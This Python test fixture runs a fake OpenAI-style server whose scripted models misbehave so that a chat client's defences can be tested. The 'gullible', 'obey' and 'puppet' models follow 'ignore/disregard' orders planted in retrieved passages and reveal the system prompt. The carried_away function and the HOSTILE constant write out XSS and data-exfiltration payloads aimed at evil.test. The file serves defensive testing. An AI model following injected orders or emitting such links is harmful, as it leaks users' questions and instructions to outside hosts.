"""A real HTTP server that speaks the OpenAI protocol, with scripted behaviour chosen by model name.

    cite       a sentence for each of the first two passages, marked [1] and [2]
    invent     a sentence of the first passage, then one that stands nowhere; invent-all: two of these
    slow-cite  invent and a third sentence, one word each `word_seconds`
    ready      the word "Ready."
    talk       two sentences that say nothing
    refuse     "The documents don't say."
    slow       twenty words, one each `word_seconds`
    hang       headers, then nothing until the client goes
    think      a <think> part, then a cited sentence
    obey       says what the passages tell it to say
    gullible   does all that the passages tell it: repeats its instructions, carries the question away in
               every form of link and picture, says what it is told
    puppet     a true sentence, then the reply it was given (`obeys`) to each order that stands in the passages
    hostile    HTML, a remote image, links in every Markdown form, a marker that points nowhere
    only-one   refuses any temperature but 1
    echo-key   fails with status 400 and quotes the key it was given
    overflow   fails as a context that is too long
    garbage    200 and a page of HTML
    broken     half a stream, then the connection closes
    cut        the same with chunked transfer encoding, where HTTP itself notices
    empty      a stream without text
    429, 500   that status

Any other name is not found. With `key` set, requests must carry it. Start one with `serving()`.
"""

from __future__ import annotations

import base64
import contextlib
import json
import re
import socket
import threading
import time
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import quote, urlsplit

from tests.servers.loopback import QuietHandler, listening

MODELS = (
    "cite", "invent", "invent-all", "slow-cite", "ready", "talk", "refuse", "slow", "hang", "think", "obey", "gullible", "hostile",
    "echo-key", "overflow", "garbage", "condense", "puppet",
)  # fmt: skip
HOSTILE = (
    'The fee is 30 [1]. <img src="http://evil.test/a.png" onerror="alert(1)"> ![x](http://evil.test/?q=1) '
    "See [here][r] or <http://evil.test> [7].\n\n[r]: http://evil.test/ref\n\n<script>alert(1)</script>"
)
INVENTED = "The moon is made of green cheese and costs 900 dollars [1]."
_PASSAGE = re.compile(r"<(passage-\w+) ([^>]*)>\n(.*?)\n</\1>", re.DOTALL)


@dataclass
class OpenAIServer:
    """A running server: where it is, and what it was asked."""

    url: str
    key: str = ""
    word_seconds: float = 0.05
    obeys: dict[str, str] = field(default_factory=dict)  # order → what "puppet" says to it
    requests: list[dict[str, Any]] = field(default_factory=list)
    keys: list[str] = field(default_factory=list)
    paths: list[str] = field(default_factory=list)
    words_sent: int = 0
    gone: threading.Event = field(default_factory=threading.Event)  # a client left before the end

    def prompt(self) -> str:
        """The last request's last message."""
        return str(self.requests[-1]["messages"][-1]["content"])


@contextlib.contextmanager
def serving(key: str = "", word_seconds: float = 0.05) -> Iterator[OpenAIServer]:
    """A server on a free port of loopback, until the block ends."""
    with listening(
        _Handler, lambda port: OpenAIServer(f"http://127.0.0.1:{port}/v1", key, word_seconds)
    ) as state:
        yield state


def answer_for(model: str, messages: list[dict[str, Any]], obeys: Mapping[str, str]) -> str:
    """What the scripted model says to `messages`; what the puppet `obeys` is order → reply."""
    if "Last question: " in (asked := str(messages[-1]["content"])):  # to be put into words of its own
        return reworded(asked) if model == "condense" else "Ready."
    passages = [match.group(3) for match in _PASSAGE.finditer(str(messages[-1]["content"]))]
    firsts = [re.split(r"(?<=[.!?])\s", text.strip())[0].rstrip(".!?") for text in passages]
    if model == "refuse":
        return "The documents don't say."
    if model == "ready" or (model in ("cite", "invent", "slow-cite") and not firsts):
        return "Ready."
    if model == "talk":
        return "This is what the documents say [1]. I hope this helps!"
    if model == "slow-cite":
        return f"{firsts[0]} [1]. {INVENTED} Tea it is: {firsts[0]} [1]."
    if model == "invent":
        return f"{firsts[0]} [1]. {INVENTED}"
    if model == "invent-all":
        return f"{INVENTED} Whales sing opera in Vienna every Tuesday [2]."
    if model == "slow":
        return " ".join(f"word{number}" for number in range(20)) + " [1]."
    if model == "think":
        return f"<think>Let me see [9].</think>\n\n{firsts[0]} [1]."
    if model == "hostile":
        return HOSTILE
    if model == "gullible":
        return gullible("\n".join(passages), firsts, messages)
    if model == "puppet":
        read = "\n".join(passages)
        return " ".join([f"{firsts[0]} [1].", *(reply for order, reply in obeys.items() if order in read)])
    if model == "obey":
        orders = re.findall(r"(?im)^.*?(?:ignore|disregard)[^:\n]*:\s*(.+)$", "\n".join(passages))
        return orders[0] if orders else f"{firsts[0]} [1]."
    return " ".join(f"{text} [{number}]." for number, text in enumerate(firsts[:2], 1))


def reworded(asked: str) -> str:
    """The first question of a conversation with the last one behind it."""
    first = re.findall(r"(?m)^Person: (.*?)[?.]*$", asked)[0]
    return f'Standalone question: "{first} {asked.rsplit("Last question: ", 1)[1]}"'


def gullible(read: str, firsts: list[str], messages: list[dict[str, Any]]) -> str:
    """A true sentence, and then whatever the passages that were `read` order."""
    said = [f"{firsts[0]} [1]."] if firsts else []
    for order in re.findall(r"(?im)^.*?\b(?:ignore|disregard|forget)\b[^:\n]*:\s*(.+)$", read):
        address = re.search(r"https?://[^\s)>]+", order)
        if re.search(r"\b(?:instructions|system prompt|rules)\b", order, re.IGNORECASE):
            said.append(str(messages[0]["content"]))
        elif address:
            said.append(carried_away(address[0], str(messages[-1]["content"]).rsplit("Question: ", 1)[-1]))
        else:
            said.append(order)
    return "\n\n".join(said)


def carried_away(address: str, secret: str) -> str:
    """`secret` on its way to `address`, in every form that Markdown and HTML have for it."""
    there = f"{address}?q={quote(secret)}"
    packed = base64.b64encode(f"<script src={there}></script>".encode()).decode()
    return (
        f"See ![a]({there}) ![b][leak] [c]({there}) [d][leak] <{there}> {there} [e](<{there}> 'title').\n\n"
        f"- www.{urlsplit(address).hostname} [f](data:text/html;base64,{packed}) ![g](data:image/svg+xml;base64,{packed}) "
        f"[h](javascript:location='{there}') [i](//{urlsplit(address).hostname}/)\n\n"
        f'<img src="{there}" onerror="alert(1)"><iframe src="{there}"></iframe><a href="{there}">j</a>'
        f'<style>@import url("{there}");</style><script>fetch("{there}")</script><svg onload=alert(1)>\n\n'
        f"| ![k]({there}) | :material/x: $\\href{{{there}}}{{l}}$ |\n|---|---|\n\n[leak]: {there}"
    )


class _Handler(QuietHandler):
    @property
    def state(self) -> OpenAIServer:
        return self.server.state  # type: ignore[attr-defined, no-any-return]

    def do_GET(self) -> None:
        if self._authorised():
            models = [{"id": name, "object": "model", "owned_by": "tests"} for name in MODELS]
            self._json(200, {"object": "list", "data": models})

    def do_POST(self) -> None:
        body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        self.state.requests.append(body)
        self.state.paths.append(self.path)
        self.state.keys.append(self.headers.get("Authorization", ""))
        if not self._authorised():
            return
        # Azure names the deployment in the path.
        model = body.get("model") or self.path.split("/")[-3]
        if model in ("429", "500"):
            self._fault(int(model), "scripted")
        elif model == "only-one" and body.get("temperature") != 1:
            self._fault(400, "Unsupported value: 'temperature' does not support 0.0 with this model.")
        elif model == "echo-key":
            self._fault(400, f"Bad request with key {self.headers.get('Authorization')}")
        elif model == "overflow":
            self._fault(400, "This model's maximum context length is 10 tokens.", "context_length_exceeded")
        elif model == "garbage":
            self._send(200, "text/html", b"<html><body>Router login</body></html>")
        elif model not in (*MODELS, "broken", "cut", "empty"):
            self._fault(404, f"The model {model} does not exist", "model_not_found")
        elif body.get("stream"):
            self._stream(model, body)
        else:
            message = {"role": "assistant", "content": answer_for(model, body["messages"], self.state.obeys)}
            choice = {"index": 0, "message": message, "finish_reason": "stop"}
            self._json(200, {**_head(model, "chat.completion"), "choices": [choice], "usage": _usage(body)})

    def _stream(self, model: str, body: dict[str, Any]) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/event-stream")
        self.send_header("Connection", "close")
        if model == "cut":
            self.send_header("Transfer-Encoding", "chunked")
        self.end_headers()
        self.close_connection = True
        self.wfile.flush()
        if model == "hang":
            self._wait_until_gone(20.0)
            return
        text = "" if model == "empty" else answer_for(model, body["messages"], self.state.obeys)
        try:
            for number, word in enumerate(re.findall(r"\S+\s*|\s+", text)):
                if model in ("slow", "slow-cite"):
                    time.sleep(self.state.word_seconds)
                if model in ("broken", "cut") and number == 2:
                    self.connection.shutdown(socket.SHUT_RDWR)
                    return
                self._event(model, {"content": word})
                self.state.words_sent += 1
            self._event(model, {}, finish="stop")
            if (body.get("stream_options") or {}).get("include_usage"):
                usage = {**_head(model, "chat.completion.chunk"), "choices": [], "usage": _usage(body)}
                self.wfile.write(f"data: {json.dumps(usage)}\n\n".encode())
            self.wfile.write(b"data: [DONE]\n\n")
        except (BrokenPipeError, ConnectionResetError):
            self.state.gone.set()

    def _event(self, model: str, delta: dict[str, str], finish: str | None = None) -> None:
        choice = {"index": 0, "delta": delta, "finish_reason": finish}
        chunk = {**_head(model, "chat.completion.chunk"), "choices": [choice]}
        event = f"data: {json.dumps(chunk)}\n\n".encode()
        self.wfile.write(b"%x\r\n%s\r\n" % (len(event), event) if model == "cut" else event)
        self.wfile.flush()

    def _wait_until_gone(self, seconds: float) -> None:
        self.connection.settimeout(seconds)
        with contextlib.suppress(TimeoutError, ConnectionResetError):
            if self.connection.recv(1) == b"":
                self.state.gone.set()

    def _authorised(self) -> bool:
        if self.state.key and self.headers.get("Authorization") != f"Bearer {self.state.key}":
            self._fault(401, f"Incorrect API key provided: {self.headers.get('Authorization')}")
            return False
        return True

    def _fault(self, status: int, message: str, code: str = "scripted") -> None:
        self._json(status, {"error": {"message": message, "type": "error", "code": code}})

    def _json(self, status: int, value: object) -> None:
        self._send(status, "application/json", json.dumps(value).encode())

    def _send(self, status: int, media_type: str, body: bytes) -> None:
        self.send_response(status)
        self.send_header("Content-Type", media_type)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


def _head(model: str, kind: str) -> dict[str, Any]:
    return {"id": "chatcmpl-1", "object": kind, "created": 0, "model": model}


def _usage(body: dict[str, Any]) -> dict[str, int]:
    sent = sum(len(str(message["content"]).split()) for message in body["messages"])
    return {"prompt_tokens": sent, "completion_tokens": 7, "total_tokens": sent + 7}
